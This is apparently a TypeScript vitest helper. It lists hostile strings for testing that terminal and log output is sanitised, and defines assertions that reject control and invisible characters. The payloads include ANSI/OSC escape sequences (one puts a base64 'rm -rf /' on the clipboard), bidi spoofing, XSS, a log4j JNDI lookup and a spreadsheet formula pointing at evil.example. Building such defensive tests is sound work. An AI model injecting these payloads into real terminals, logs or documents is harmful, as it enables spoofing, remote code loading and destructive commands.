import { expect } from 'vitest';

const esc = '\u001b';

/** What attacks terminals, logs and those who read them, wherever a text of other people is shown. */
export const hostileTexts: Readonly<Record<string, string>> = {
  'a colour': `${esc}[31mred`,
  'a cleared screen': `${esc}[2J${esc}[H`,
  'a moved cursor': `${esc}[10A${esc}[2Kall is well`,
  'the alternate screen': `${esc}[?1049h`,
  'a new title': `${esc}]0;root@prod\u0007`,
  'a link': `${esc}]8;;https://evil.example\u0007click${esc}]8;;\u0007`,
  'a filled clipboard': `${esc}]52;c;cm0gLXJmIC8=\u0007`,
  'a device control string': `${esc}P+q544e${esc}\\`,
  'a reset': `${esc}c`,
  'an answer that is typed': `${esc}[c${esc}[6n${esc}[21t`,
  'a sequence without its end': `${esc}[`,
  'an escape alone': esc,
  'C1 instead of an escape': '\u009b31mred\u009d0;title\u009c',
  'a next line': 'one\u0085two',
  'a carriage return': 'all is well\rwhat was here',
  'line feeds': 'one\ntwo\r\nthree',
  'a line that looks like the log': '\n{"level":"info","message":"sweep finished"}\n',
  'a vertical tab and a form feed': 'one\u000btwo\u000cthree',
  backspaces: `password${'\b'.repeat(8)}all well`,
  NUL: 'one\0two',
  DEL: 'one\u007ftwo',
  'a bell': '\u0007\u0007\u0007',
  'shift in and out': '\u000eabc\u000f',
  'right to left': '\u202egnp.exe',
  'bidi isolates': '\u2066one\u2069\u2067two\u2069\u2068three',
  'marks of direction': '\u200eone\u200ftwo\u061c',
  'zero width': 'de\u200bfault\u200c\u200d\u2060',
  'a byte order mark': '\ufeffdefault',
  tags: 'x\u{e0061}\u{e0062}\u{e007f}',
  'separators of lines and paragraphs': 'one\u2028two\u2029three',
  'half a character': 'one\ud83d',
  'the other half': '\ude00one',
  'halves the wrong way round': '\ude00\ud83d',
  'interlinear annotation': '\ufff9one\ufffatwo\ufffb',
  'soft hyphens': 'de\u00adfault',
  Zalgo: `a${'\u0301'.repeat(500)}`,
  HTML: '<script>alert(1)</script><img src=x onerror=alert(1)>',
  Markdown: '| [x](javascript:alert(1)) ![](http://evil.example) `|` |',
  'quotes and backslashes': '"\\"\\\\\'`\u0024{x}',
  'a formula': '=HYPERLINK("http://evil.example")',
  'a format': '%s%s%n%x%d',
  'a log4j look-up': '\u0024{jndi:ldap://evil.example/a}',
  'nothing but blanks': ' \t \u00a0\u3000 ',
  nothing: '',
  'a long line': 'x'.repeat(100_000),
  'a long line of escapes': esc.repeat(50_000),
  'many lines': 'x\n'.repeat(20_000),
  'emoji of many parts': '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}'.repeat(50),
};

/** C0 but for line feeds, DEL, C1, what is invisible or turns text round, halves of characters. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: that is what it looks for.
const raw = /[\0-\t\u000b-\u001f\u007f-\u009f\p{Cf}\p{Cs}\u2028\u2029]/u;

/** Asserts that a text for a terminal or a file has nothing in it that could control or mislead. */
export function expectClean(text: string, where = ''): void {
  const found = raw.exec(text);
  if (found) {
    const around = JSON.stringify(text.slice(Math.max(0, found.index - 40), found.index + 20));
    expect.fail(`${where}: U+${found[0].codePointAt(0)?.toString(16)} in ${around}`);
  }
}

/** Asserts that each line is one JSON object, and nothing in it raw. */
export function expectLog(text: string, where = ''): readonly Record<string, unknown>[] {
  expectClean(text, where);
  return text
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => {
      const entry: unknown = JSON.parse(line);
      expect(entry, line).toBeTypeOf('object');
      return entry as Record<string, unknown>;
    });
}
